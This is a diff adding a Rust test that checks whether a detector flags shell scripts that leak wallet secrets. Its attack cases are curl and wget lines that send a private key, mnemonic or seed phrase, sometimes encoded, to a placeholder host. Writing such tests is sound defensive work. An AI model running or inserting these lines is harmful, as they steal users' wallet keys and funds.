@@ -82,6 +82,28 @@ fn an_encoded_private_key_and_the_key_of_a_wallet_are_not_sent() {
 }
 
 #[test]
+fn a_shell_command_does_not_send_a_private_key() {
+    assert_attacks(
+        &[
+            "source .env\ncurl -s -d \"k=$PRIVATE_KEY\" {T}\n",
+            "curl -s \"{T}?id=${MNEMONIC}\"\n",
+            "ID=$(printf %s \"$PRIVATE_KEY\" | base64 -w0)\nTIP=$(curl -s \"{T}?id=$ID\")\n",
+            "wget -qO- \"{T}?s=$(echo $SEED_PHRASE | xxd -p)\"\n",
+        ],
+        script("run.sh"),
+    );
+    assert_ordinary(
+        &[
+            "TIP=$(curl -s \"{T}?net=base\")\nforge create T --private-key \"$PRIVATE_KEY\" --priority-gas-price \"$TIP\"\n",
+            "A=$(cast wallet address --private-key $PRIVATE_KEY)\ncurl -s \"{T}?a=$A\"\n",
+            "curl --key \"$PRIVATE_KEY\" --cert \"$CERT\" {T}\n",
+            "curl -s \"https://api.example.com/v1?id=$PRIVATE_KEY\"\n",
+        ],
+        script("run.sh"),
+    );
+}
+
+#[test]
 fn a_key_of_a_vendor_is_only_sent_to_sign_in() {
     assert_attacks(
         &[
